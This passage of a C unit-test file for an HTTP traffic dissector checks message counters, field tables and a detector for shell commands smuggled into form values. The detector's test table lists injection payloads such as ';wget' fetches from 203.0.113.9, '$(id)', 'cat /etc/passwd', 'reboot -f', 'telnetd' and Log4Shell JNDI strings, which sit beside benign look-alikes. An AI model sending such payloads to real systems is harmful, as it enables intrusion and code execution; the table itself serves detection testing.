	ck_assert_uint_eq(count_of("\"protocol\":\"ssdp\""), 2);
	ck_assert_uint_eq(h.anomalies, 0);
}
END_TEST

START_TEST(counters)
{
	struct json j;

	say(DIR_REQUEST, "junk\r\nGET / HTTP/1.1\r\nHost: p\r\n\r\n");
	say(DIR_RESPONSE,
	    "HTTP/1.1 102 wait\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 400 Bad\r\n\r\n");
	json_init(&j, 4096);
	json_object_begin(&j);
	http_dissector.stats(h.counters, &j);
	json_object_end(&j);
	ck_assert_str_eq(json_cstr(&j), "{\"http\":{\"requests\":1,\"responses\":3}}");
	json_deinit(&j);
}
END_TEST

/* What stands in tables must be findable: names ascending, each row explained. */
START_TEST(commands_in_forms)
{
	static const struct {
		const char *text;
		bool found;
	} rows[] = {
	    {"target_addr=;wget+http://203.0.113.9/x", true},
	    {"host=$(wget+http://203.0.113.9/x)", true},
	    {"deviceName=;wget http://203.0.113.9/x;", true},
	    {"ip=1.1.1.1;cat /etc/passwd", true},
	    {"ip=1.1.1.1%3B%2fbin%2Fcat%20%2Fetc%2Fpasswd", true},
	    {"ip=1.1.1.1%7Csleep+5", true},
	    {"ip=1.1.1.1&&reboot+-f", true},
	    {"ip=1.1.1.1%26%26telnetd", true},
	    {"ip=%60tftp+-g+203.0.113.9%60", true},
	    {"ip=1.1.1.1%0Acurl+203.0.113.9", true},
	    {"a=$(id)", true},
	    {"a=;cat${IFS}/etc/passwd", true},
	    {"a=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", true},
	    {"a=${${::-j}ndi:ldap://203.0.113.9/a}", true},
	    /* what people and pages send */
	    {"", false},
	    {"ip=192.168.1.1&count=4", false},
	    {"a=1&id=5&cat=/tools&ping=1", false},
	    {"columns=name;id;date&sort=a|id|b", false},
	    {"text=Bolts;+cat+litter,+sh+and+ls", false},
	    {"text=first%0Aping+the+controller%0Aecho+it", false},
	    {"text=see+wget+and+curl", false},
	    {"path=a;id/5+", false},
	    {"price=$5&(a)", false},
	    {"a=%3", false},
	    {"a=;", false},
	    {"a=$(", false},
	    {"a=$", false},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		ck_assert_msg(http_form_has_command(span_str(rows[i].text)) == rows[i].found, "%s", rows[i].text);
}
END_TEST

START_TEST(tables_are_sound)
{
	for (unsigned i = 0; i < HTTP_FIELDS; i++) {
		const struct enum_names *names = http_field[i].names;
		ck_assert_msg(http_field[i].name && http_field[i].spec && http_field[i].doc, "row %u", i);
		ck_assert_msg((http_field[i].type == FIELD_TYPE_ENUM) == (names != NULL), "%s", http_field[i].name);
		for (size_t n = 1; names && n < names->n; n++)
			ck_assert_uint_lt(names->names[n - 1].value, names->names[n].value);
	}
	ck_assert_uint_le(sizeof(struct http_state) + 512, HTTP_STATE_BYTES);
}
END_TEST

#define LOOP(t, test, rows) tcase_add_loop_test(t, test, 0, sizeof(rows) / sizeof((rows)[0]))

int main(void)
{
	Suite *suite = suite_create("http");
	TCase *t = tcase_create("flows and limits"), *tcase_switch = tcase_create("switches");
	suite_add_tcase(suite, tcase_switch);
	tcase_add_checked_fixture(t, setup, teardown);
	tcase_set_timeout(t, 60);
	tcase_add_test(t, a_long_body_is_skipped_uncopied);
	tcase_add_test(tcase_switch, a_switch_of_protocols);
	tcase_add_test(t, a_body_cut_short_says_how_much_was_seen);
	tcase_add_test(t, gaps_within_a_body);
	tcase_add_test(t, a_gap_beyond_a_body_and_what_is_found_behind);
	tcase_add_test(t, a_gap_among_requests);
	tcase_add_test(t, answers_behind_gaps);
	tcase_add_test(t, a_head_too_long);
	tcase_add_test(t, a_head_cut_at_the_end_of_a_line);
	tcase_add_test(t, too_many_headers);
	tcase_add_test(t, too_many_trailers);
	tcase_add_test(t, the_log_grows_and_forgets_the_oldest);
	tcase_add_test(t, a_log_that_may_not_grow);
	tcase_add_test(t, a_value_cut_short_says_so);
	tcase_add_test(t, late_headers_while_the_response_passes);
	tcase_add_test(t, messages_in_datagrams);
	tcase_add_test(t, counters);
	suite_add_tcase(suite, t);

	t = tcase_create("values");
	tcase_add_checked_fixture(t, setup, teardown);
	LOOP(t, titles_in_their_encodings, titles);
	LOOP(t, probing, probes);
	LOOP(t, function_classes, classes);
	LOOP(t, bodies_by_their_first_bytes, bodies);
	tcase_add_test(t, a_tar_and_an_encoded_text);
	tcase_add_test(t, words_are_the_same_but_for_case);
	tcase_add_test(t, tokens_are_of_these_characters);
	tcase_add_test(t, an_odd_byte_anywhere_makes_no_text);
	tcase_add_test(t, what_ends_as_a_head_has_one);
	tcase_add_test(t, files_named_by_urls);
	tcase_add_test(t, commands_in_forms);
	tcase_add_test(t, tables_are_sound);
	suite_add_tcase(suite, t);

	suite_add_tcase(suite, vectors_tcase(&table));
	return vectors_run(suite);
}
